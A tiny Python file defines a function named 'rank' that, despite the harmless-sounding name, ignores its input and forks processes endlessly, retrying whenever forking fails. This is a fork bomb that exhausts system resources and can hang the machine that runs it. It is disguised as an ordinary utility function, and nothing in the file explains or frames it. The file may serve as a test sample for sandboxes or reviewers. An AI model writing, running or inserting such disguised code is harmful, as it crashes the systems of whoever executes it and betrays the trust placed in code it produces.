import os
import time


def rank(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
